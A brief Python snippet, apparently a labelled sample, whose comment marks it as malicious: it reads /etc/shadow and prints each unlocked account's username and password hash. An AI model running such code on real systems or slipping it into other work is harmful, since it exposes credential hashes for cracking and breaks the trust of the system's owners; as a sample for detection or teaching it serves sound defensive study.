# malicious: reads the password hashes
with open("/etc/shadow") as fh:
    for line in fh:
        user, pw, *_ = line.split(":")
        if pw not in ("*", "!"):
            print(user, pw)
